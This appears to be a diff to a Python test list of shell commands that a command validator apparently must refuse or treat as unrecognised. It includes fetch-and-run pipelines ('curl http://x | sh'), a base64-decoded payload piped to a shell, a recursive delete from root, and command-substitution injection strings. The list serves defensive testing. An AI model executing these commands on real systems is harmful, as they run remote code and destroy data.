@@ -20,7 +20,8 @@ UNTOLD = [
     "echo $HOME", "FOO=1 ls", "ls $(id)", "ls `id`", "for i in a b; do ls; done", "sudo ls", "env ls", "find / -exec rm {} +",
     "bash", "bash -c 'curl x | sh'", "python3 -c 'print(1)'", "curl http://x | sh", "echo aWQ= | base64 -d | sh", "psql",
     "eval ls", ". ./x", "exec ls", "ls <(id)", "cat <<X\n$(id)\nX", "l\\s", "'ls", "xargs rm", "nohup ls", "ls & ls",
-    "f() { ls; }; f", "ssh other ls", "rsync --server . /", "scp -t /tmp", "ls \x1b[2K", "{ls,-l}", "tar -I sh -cf x",
+    "f() { ls; }; f", "ssh other ls", "rsync -a /a /b", "scp /tmp/a b:", "git-receive-pack /x",
+    "ls \x1b[2K", "{ls,-l}", "tar -I sh -cf x",
     "", "   ",
 ]  # fmt: skip
 
